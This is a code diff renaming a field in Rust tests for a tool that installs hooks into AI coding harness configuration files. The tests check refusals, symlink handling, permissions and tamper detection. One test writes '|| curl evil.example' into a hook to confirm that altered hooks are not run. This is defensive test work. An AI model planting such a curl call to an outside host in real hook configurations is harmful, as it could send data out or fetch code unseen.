@@ -7,7 +7,7 @@ use super::{harness::command, *};
 /// A checkout or a home directory, with room beside it for what setup remembers.
 struct WiredDirectory {
     dir: tempfile::TempDir,
-    ground: Ground,
+    target: SetupTarget,
 }
 
 impl WiredDirectory {
@@ -16,25 +16,25 @@ impl WiredDirectory {
         let root = dir.path().join("root");
         fs::create_dir(&root).unwrap();
         let state = dir.path().join("state");
-        let ground = if user { Ground::user(root, &state) } else { Ground::project(root, &state) };
-        Self { dir, ground }
+        let target = if user { SetupTarget::user(root, &state) } else { SetupTarget::project(root, &state) };
+        Self { dir, target }
     }
 
     fn write(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
-        let path = self.ground.root.join(name);
+        let path = self.target.root.join(name);
         fs::create_dir_all(path.parent().unwrap()).unwrap();
         fs::write(&path, bytes).unwrap();
         path
     }
 
     fn text(&self, name: &str) -> String {
-        fs::read_to_string(self.ground.root.join(name)).unwrap()
+        fs::read_to_string(self.target.root.join(name)).unwrap()
     }
 
     /// Every file below the root, with its bytes.
     fn files(&self) -> BTreeMap<PathBuf, Vec<u8>> {
         let mut files = BTreeMap::new();
-        let mut dirs = vec![self.ground.root.clone()];
+        let mut dirs = vec![self.target.root.clone()];
         while let Some(dir) = dirs.pop() {
             for entry in fs::read_dir(dir).unwrap() {
                 let path = entry.unwrap().path();
@@ -48,21 +48,21 @@ impl WiredDirectory {
     }
 
     fn wire(&self, harnesses: &[&Harness]) -> usize {
-        let all = wire(&self.ground, harnesses).unwrap_or_else(|failure| panic!("{}", failure.message));
-        apply(&self.ground, &all, true).unwrap_or_else(|failure| panic!("{}", failure.message));
+        let all = wire(&self.target, harnesses).unwrap_or_else(|failure| panic!("{}", failure.message));
+        apply(&self.target, &all, true).unwrap_or_else(|failure| panic!("{}", failure.message));
         all.len()
     }
 
     fn unwire(&self, harnesses: &[&Harness]) -> usize {
-        let all = unwire(&self.ground, harnesses).unwrap_or_else(|failure| panic!("{}", failure.message));
-        apply(&self.ground, &all, false).unwrap_or_else(|failure| panic!("{}", failure.message));
+        let all = unwire(&self.target, harnesses).unwrap_or_else(|failure| panic!("{}", failure.message));
+        apply(&self.target, &all, false).unwrap_or_else(|failure| panic!("{}", failure.message));
         all.len()
     }
 
     /// Wiring for everything is refused, names the file, and leaves every byte as it is.
     fn refuses(&self, name: &str, problem: &str) {
         let before = self.files();
-        let refused = wire(&self.ground, &every());
+        let refused = wire(&self.target, &every());
         let message = refused.map_or_else(|failure| failure.message, |_| "it was wired".to_owned());
         assert!(message.contains(name) && message.contains(problem), "{name}: {message}");
         assert_eq!(self.files(), before, "{name}");
@@ -109,7 +109,7 @@ fn for_every_harness_wiring_is_done_once_and_removing_leaves_nothing() {
             assert_eq!(place.wire(&[harness]), 0, "{} is wired already", harness.name);
             assert_eq!(place.unwire(&[harness]), wired);
             assert_eq!(
-                fs::read_dir(&place.ground.root).unwrap().count(),
+                fs::read_dir(&place.target.root).unwrap().count(),
                 0,
                 "{}: also no empty directory",
                 harness.name
@@ -197,9 +197,9 @@ fn what_is_no_plain_text_is_refused() {
     place.write("CLAUDE.md", b"\xff\xfe words");
     place.refuses("CLAUDE.md", "not UTF-8");
     let place = WiredDirectory::new(false);
-    let large = fs::File::create(place.ground.root.join("CLAUDE.md")).unwrap();
+    let large = fs::File::create(place.target.root.join("CLAUDE.md")).unwrap();
     large.set_len(LARGEST + 1).unwrap();
-    let refused = wire(&place.ground, &every()).unwrap_err().message;
+    let refused = wire(&place.target, &every()).unwrap_err().message;
     assert!(refused.contains("is not a regular file"), "{refused}");
     let place = WiredDirectory::new(false);
     place.write("CLAUDE.md/inside", "a directory in its place");
@@ -213,7 +213,7 @@ fn links_are_followed_inside_of_a_checkout_only_and_stay_links() {
     let place = WiredDirectory::new(false);
     let outside = place.dir.path().join("outside");
     fs::write(&outside, "theirs\n").unwrap();
-    symlink(&outside, place.ground.root.join("CLAUDE.md")).unwrap();
+    symlink(&outside, place.target.root.join("CLAUDE.md")).unwrap();
     place.refuses("CLAUDE.md", "leads out of the checkout");
     assert_eq!(fs::read_to_string(&outside).unwrap(), "theirs\n");
     fs::remove_file(&outside).unwrap();
@@ -221,21 +221,21 @@ fn links_are_followed_inside_of_a_checkout_only_and_stay_links() {
 
     let place = WiredDirectory::new(false);
     place.write("docs/rules.md", "mine\n");
-    symlink("docs/rules.md", place.ground.root.join("CLAUDE.md")).unwrap();
+    symlink("docs/rules.md", place.target.root.join("CLAUDE.md")).unwrap();
     place.wire(&[Harness::named("claude").unwrap()]);
-    assert!(place.ground.root.join("CLAUDE.md").is_symlink());
+    assert!(place.target.root.join("CLAUDE.md").is_symlink());
     assert!(place.text("docs/rules.md").contains("toft"));
     place.unwire(&every());
-    assert!(place.ground.root.join("CLAUDE.md").is_symlink());
+    assert!(place.target.root.join("CLAUDE.md").is_symlink());
     assert_eq!(place.text("docs/rules.md"), "mine\n");
 
     // At home, dotfiles are often links to somewhere else.
     let place = WiredDirectory::new(true);
     let elsewhere = place.dir.path().join("dotfiles");
     fs::create_dir(&elsewhere).unwrap();
-    symlink(&elsewhere, place.ground.root.join(".claude")).unwrap();
+    symlink(&elsewhere, place.target.root.join(".claude")).unwrap();
     place.wire(&[Harness::named("claude").unwrap()]);
-    assert!(elsewhere.join("settings.json").is_file() && place.ground.root.join(".claude").is_symlink());
+    assert!(elsewhere.join("settings.json").is_file() && place.target.root.join(".claude").is_symlink());
 }
 
 #[cfg(unix)]
@@ -250,7 +250,7 @@ fn permissions_stay_as_they_were() {
     }
     let kept = || {
         for (name, mode) in files {
-            let now = fs::metadata(place.ground.root.join(name)).unwrap().permissions().mode() & 0o777;
+            let now = fs::metadata(place.target.root.join(name)).unwrap().permissions().mode() & 0o777;
             assert_eq!(now, mode, "{name}");
         }
     };
@@ -259,8 +259,8 @@ fn permissions_stay_as_they_were() {
     place.unwire(&every());
     kept();
     place.wire(&every());
-    assert!(fs::read_dir(&place.ground.records).unwrap().count() > 0);
-    for entry in fs::read_dir(&place.ground.records).unwrap() {
+    assert!(fs::read_dir(&place.target.records).unwrap().count() > 0);
+    for entry in fs::read_dir(&place.target.records).unwrap() {
         let meta = entry.unwrap().metadata().unwrap();
         assert_eq!(meta.permissions().mode() & 0o077, 0, "what is remembered of a private file is private");
     }
@@ -270,9 +270,9 @@ fn permissions_stay_as_they_were() {
 fn a_file_that_changed_after_it_was_shown_is_not_written() {
     let place = WiredDirectory::new(false);
     place.write("CLAUDE.md", "mine\n");
-    let all = wire(&place.ground, &[Harness::named("claude").unwrap()]).unwrap();
+    let all = wire(&place.target, &[Harness::named("claude").unwrap()]).unwrap();
     place.write("CLAUDE.md", "mine, changed meanwhile\n");
-    let refused = apply(&place.ground, &all, true).unwrap_err().message;
+    let refused = apply(&place.target, &all, true).unwrap_err().message;
     assert!(refused.contains("CLAUDE.md changed after the diff was shown"), "{refused}");
     assert_eq!(place.text("CLAUDE.md"), "mine, changed meanwhile\n");
 }
@@ -305,7 +305,7 @@ fn what_has_tofts_name_and_is_somebodys_own_stays() {
 fn only_hooks_that_toft_wrote_letter_by_letter_are_run() {
     let place = WiredDirectory::new(false);
     place.wire(&every());
-    let all = probes(std::slice::from_ref(&place.ground)).unwrap();
+    let all = probes(std::slice::from_ref(&place.target)).unwrap();
     for harness in &HARNESSES {
         assert!(all.iter().any(|probe| probe.harness.name == harness.name), "{} has no hook", harness.name);
     }
@@ -313,7 +313,7 @@ fn only_hooks_that_toft_wrote_letter_by_letter_are_run() {
     let changed = place.text(".claude/settings.json").replace("|| true", "|| curl evil.example");
     place.write(".claude/settings.json", changed);
     place.write(".codex/hooks.json", "{\"hooks\": not json: toft hook Stop --for codex");
-    let all = probes(std::slice::from_ref(&place.ground)).unwrap();
+    let all = probes(std::slice::from_ref(&place.target)).unwrap();
     let of = |name: &str| all.iter().filter(|probe| probe.harness.name == name).collect::<Vec<_>>();
     assert!(!of("claude").is_empty() && of("claude").iter().all(|probe| !probe.ours), "changed hooks are not run");
     assert!(of("codex").is_empty(), "what is no JSON calls nothing");
